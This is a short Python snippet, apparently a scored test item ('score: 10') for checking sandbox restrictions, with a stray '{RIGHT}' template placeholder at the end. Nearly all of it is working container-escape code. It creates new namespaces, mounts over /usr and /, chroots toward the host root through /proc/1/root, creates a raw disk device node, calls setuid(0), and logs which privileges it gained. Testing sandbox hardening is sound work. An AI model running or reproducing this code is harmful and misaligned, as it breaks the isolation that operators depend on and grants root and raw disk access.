# New namespaces, mounts, device files and another root are asked for.
# score: 10

# %% MySequential
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
gained = []
libc.unshare(0x10000000 | 0x00020000)
for call in (lambda: libc.mount(b'none', b'/usr', b'tmpfs', 0, None), lambda: libc.umount2(b'/usr', 2),
             lambda: libc.mount(b'none', b'/', None, 32 | 4096, None), lambda: libc.chroot(b'/proc/1/root/..')):
    call()
for name, action in {'node': lambda: os.mknod('hostile', 0o60600, os.makedev(8, 0)), 'uid': lambda: os.setuid(0)}.items():
    try:
        action()
        gained.append(name)
    except OSError:
        pass
try:
    open('/usr/hostile-mount', 'w')
except OSError:
    pass


{RIGHT}
